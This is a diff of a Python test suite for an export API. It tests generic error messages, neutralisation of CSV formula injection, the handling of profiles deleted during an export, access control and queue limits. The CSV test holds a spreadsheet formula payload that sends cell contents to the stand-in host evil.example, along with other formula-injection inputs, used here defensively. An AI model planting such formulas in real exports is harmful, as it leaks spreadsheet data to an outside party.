@@ -104,7 +104,7 @@ def test_export_roles(client, market, official):  # noqa: F811
     assert client.get("/v1/exports/ex_missing", headers=official).status_code == 404
 
 
-def test_failing_job_reports_failed_and_leaves_no_file(client, market, admin, settings):  # noqa: F811
+def test_failing_job_reports_failed_and_leaves_no_file(client, market, admin, settings, caplog):  # noqa: F811
     # Make the export directory unusable: a file where the directory should be.
     settings.export_dir.parent.mkdir(parents=True, exist_ok=True)
     if settings.export_dir.exists():
@@ -120,6 +120,13 @@ def test_failing_job_reports_failed_and_leaves_no_file(client, market, admin, se
         time.sleep(0.05)
     assert status["status"] == "failed" and status["error"]
     assert client.get(f"/v1/exports/{job}/file", headers=admin).status_code == 409
+    # The client gets a generic message; the exception (with its path) goes to the log only.
+    from service.exports.service import FAILED
+
+    assert status["error"] == FAILED
+    assert str(settings.data_dir) not in status["error"] and "Error" not in status["error"]
+    logged = [r for r in caplog.records if r.getMessage() == f"export {job} failed"]
+    assert logged and logged[0].exc_info and str(settings.export_dir) in caplog.text
 
 
 def test_interrupted_job_is_marked_failed_not_done(client, admin):
@@ -163,7 +170,155 @@ def test_partial_file_never_visible(client, admin, settings, tmp_path):
         seen.append((p, out.exists()))
 
     with state.sessions() as s:
-        rows = write_export(s, state.index, settings, ExportParams(format="csv"), out, progress)
-    assert rows == 1 and out.exists()
+        written = write_export(s, state.index, settings, ExportParams(format="csv"), out, progress)
+    assert written.rows == 1 and written.skipped_pairs == 0 and out.exists()
     assert all(not exists for p, exists in seen if p < 1.0)
     assert not list(tmp_path.glob(".*partial"))
+
+
+EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+
+
+def test_csv_cells_that_start_like_formulas_are_neutralised(client, admin):
+    """OWASP CSV injection: a spreadsheet would evaluate these cells (the file has a BOM, so
+    it opens straight in one). CSV gets a leading quote; JSONL keeps the text exact."""
+    create_profile(client, name=EVIL_NAME, city="=1+2", country="IN")
+    create_profile(client, name="@SUM(1+1)*cmd", city="-2+3", country="KR")
+    create_profile(client, name="+Plus Corp", city="@Busan", country="KR")
+    _, content = run_export(client, admin, format="csv", top_k=5)
+    text = content.decode("utf-8-sig")
+    rows = list(csv.DictReader(io.StringIO(text)))
+    assert len(rows) == 2
+    cells = [v for r in rows for v in r.values()]
+    assert not [v for v in cells if v[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert {r["in_name"] for r in rows} == {"'" + EVIL_NAME}
+    assert {r["in_city"] for r in rows} == {"'=1+2"}
+    assert {r["kr_name"] for r in rows} == {"'@SUM(1+1)*cmd", "'+Plus Corp"}
+    assert {r["kr_city"] for r in rows} == {"'-2+3", "'@Busan"}
+    # Every text cell is quoted, so no reader splitting on another separator sees a formula.
+    assert f'"\'{EVIL_NAME.replace(chr(34), chr(34) * 2)}"' in text
+    # Numbers stay numbers.
+    assert all(float(r["score"]) >= 0 for r in rows)
+    _, content = run_export(client, admin, format="jsonl", top_k=5)
+    exact = [json.loads(line) for line in content.decode().splitlines()]
+    assert {r["in_name"] for r in exact} == {EVIL_NAME}
+    assert {r["in_city"] for r in exact} == {"=1+2"}
+
+
+def test_safe_cell_covers_every_formula_start():
+    # Tab and carriage return cannot arrive through the API (stripped), but the rule covers them.
+    from service.core.csvsafe import safe_cell
+
+    for start in ("=", "+", "-", "@", "\t", "\r"):
+        assert safe_cell(start + "1+2") == "'" + start + "1+2"
+    assert safe_cell("Busan") == "Busan"
+    assert safe_cell(-0.5) == -0.5 and safe_cell(None) is None
+
+
+def test_profiles_deleted_during_an_export_are_skipped_and_counted(client, market, settings):  # noqa: F811
+    """Profiles deleted through the API after the pairs were ranked and before their rows are
+    read (the moment the writer reports half done): the export still completes, without them.
+    It used to fail with ``TypeError: argument of type 'NoneType' is not iterable``."""
+    from service.exports.schemas import ExportParams
+    from service.exports.writer import write_export
+
+    extra, owner_extra = create_profile(client, country="KR")
+    state = client.app.state.matchmaker
+    out = settings.data_dir / "deleted.csv"
+    deleted = []
+
+    def delete_midway(p: float) -> None:
+        if p >= 0.5 and not deleted:
+            for pid, owner in ((market["a"]["id"], market["owner_a"]), (extra["id"], owner_extra)):
+                assert client.delete(f"/v1/profiles/{pid}", headers=owner).status_code == 204
+                deleted.append(pid)
+
+    with state.sessions() as s:
+        written = write_export(
+            s, state.index, settings, ExportParams(format="csv"), out, delete_midway
+        )
+    assert deleted
+    # 2 IN x 4 KR pairs were ranked; A's 4 and the other Indian's pair with `extra` are gone.
+    assert (written.rows, written.skipped_pairs) == (3, 5)
+    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
+    assert len(rows) == 3
+    assert not {r["in_id"] for r in rows} & set(deleted)
+    assert not {r["kr_id"] for r in rows} & set(deleted)
+
+
+def test_job_status_counts_pairs_of_profiles_gone_from_the_database(client, market, admin):  # noqa: F811
+    """The state a deletion racing an export leaves behind, made deterministic: the index still
+    holds a profile the database no longer has (deleted without a change-log entry)."""
+    from sqlalchemy import delete
+
+    from service.db import transaction
+    from service.profiles.models import Profile
+
+    state = client.app.state.matchmaker
+    with transaction(state.sessions) as s:
+        s.execute(delete(Profile).where(Profile.public_id == market["competitor"]["id"]))
+    status, content = run_export(client, admin, format="jsonl", top_k=10)
+    assert (status["rows"], status["skipped_pairs"]) == (4, 2)  # the competitor's 2 pairs
+    rows = [json.loads(line) for line in content.decode().splitlines()]
+    assert market["competitor"]["id"] not in {r["kr_id"] for r in rows}
+
+
+def test_only_the_creating_key_and_admins_read_an_export(client, market, official, admin):  # noqa: F811
+    from service.auth.service import create_key
+    from service.db import transaction
+    from service.exports.models import ExportJob
+
+    state = client.app.state.matchmaker
+    with transaction(state.sessions) as s:
+        other = {"X-API-Key": create_key(s, "official", "another desk")}
+    status, _ = run_export(client, official, format="csv")
+    for url in (f"/v1/exports/{status['id']}", f"/v1/exports/{status['id']}/file"):
+        r = client.get(url, headers=other)
+        assert r.status_code == 404, r.text
+        assert r.json()["detail"] == f"no export with id {status['id']!r}"  # as if missing
+        assert client.get(url, headers=admin).status_code == 200
+    # Jobs from before owners were recorded (NULL owner): admins only.
+    with transaction(state.sessions) as s:
+        s.add(ExportJob(id="ex_legacy", status="queued", format="csv", params={}, progress=0.0))
+    assert client.get("/v1/exports/ex_legacy", headers=official).status_code == 404
+    assert client.get("/v1/exports/ex_legacy", headers=admin).status_code == 200
+
+
+def test_unfinished_exports_are_capped_per_key(client, official, admin):
+    from sqlalchemy import update
+
+    from service.auth.service import create_key
+    from service.db import transaction
+    from service.exports.models import ExportJob
+
+    state = client.app.state.matchmaker
+    state.exports.stop()  # nothing finishes: every job stays queued
+    with transaction(state.sessions) as s:
+        other = {"X-API-Key": create_key(s, "official", "another desk")}
+    cap = state.settings.export_max_pending_per_key
+    assert cap == 3  # the default
+    jobs = [client.post("/v1/exports", json={}, headers=official) for _ in range(cap)]
+    assert [r.status_code for r in jobs] == [202] * cap
+    r = client.post("/v1/exports", json={}, headers=official)
+    assert r.status_code == 429, r.text
+    assert r.json()["code"] == "export_queue_full" and r.json()["limit"] == cap
+    assert "3 exports queued or running" in r.json()["detail"]
+    assert int(r.headers["Retry-After"]) > 0
+    # Per key: another official and admins are not held up by it.
+    assert client.post("/v1/exports", json={}, headers=other).status_code == 202
+    for _ in range(cap + 1):
+        assert client.post("/v1/exports", json={}, headers=admin).status_code == 202
+    # A finished job (done or failed) no longer counts.
+    with transaction(state.sessions) as s:
+        s.execute(
+            update(ExportJob).where(ExportJob.id == jobs[0].json()["id"]).values(status="done")
+        )
+    assert client.post("/v1/exports", json={}, headers=official).status_code == 202
+    assert client.post("/v1/exports", json={}, headers=official).status_code == 429
+
+
+def test_created_export_answers_with_its_location(client, admin):
+    r = client.post("/v1/exports", json={}, headers=admin)
+    assert r.status_code == 202
+    assert r.headers["Location"] == f"/v1/exports/{r.json()['id']}"
+    assert client.get(r.headers["Location"], headers=admin).status_code == 200
